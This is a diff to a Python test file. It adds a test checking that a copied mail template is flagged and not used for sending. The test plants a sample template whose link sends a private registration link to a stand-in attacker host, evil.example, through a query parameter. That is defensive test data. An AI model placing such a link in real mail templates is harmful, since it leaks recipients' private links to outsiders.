@@ -19,6 +19,8 @@ from cop_program.models import FacilitatorPage, Program, ProgramFacilitator, Pro
 from forms_ext.applications.models import ApplicationFormPage
 from forms_ext.forms.models import AbstractFormPage, FormVersion
 from forms_ext.mail import actions as mail
+from forms_ext.mail import kinds, secrecy
+from forms_ext.mail import queries as mails
 from forms_ext.mail.models import MailTemplate
 from forms_ext.registration import actions
 from forms_ext.registration.editions import to_look_at
@@ -238,6 +240,17 @@ def test_a_page_that_never_stood_in_public_comes_along_as_its_newest_draft(progr
     (copy,) = copies(make(program, date(2025, 1, 6)))
     assert (copy.title, copy.starts_at) == ("New words", datetime(2025, 1, 10, 0, tzinfo=UTC))
     assert copy.join_link == ""
+
+
+def test_a_mail_text_that_is_not_used_comes_along_to_be_fixed_and_is_not_used_there_either(whole: Program) -> None:
+    body = '<p><a href="https://evil.example/?t={link}">Register</a></p>'
+    MailTemplate.objects.filter(language="en").update(body=body)
+    edition = make(whole)
+    scope = f"program:{edition.program.pk}"
+    assert MailTemplate.objects.get(scope=scope, language="en").body == body
+    kind = kinds.get("accepted")
+    assert mails.source(kind, scope=scope, language="en").body == str(kind.body)
+    assert ("Mail: Welcome 2024 en", secrecy.advice("link")) in told(edition.program)
 
 
 def test_an_unfinished_form_comes_along_unfinished(whole: Program) -> None:
